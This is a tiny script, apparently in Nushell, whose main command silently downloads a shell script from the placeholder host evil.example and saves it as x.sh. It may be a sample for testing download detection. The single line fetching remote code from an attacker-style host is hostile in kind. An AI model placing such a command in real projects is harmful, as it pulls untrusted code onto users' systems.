def main [] {
  curl -s https://evil.example/x.sh | save x.sh
}
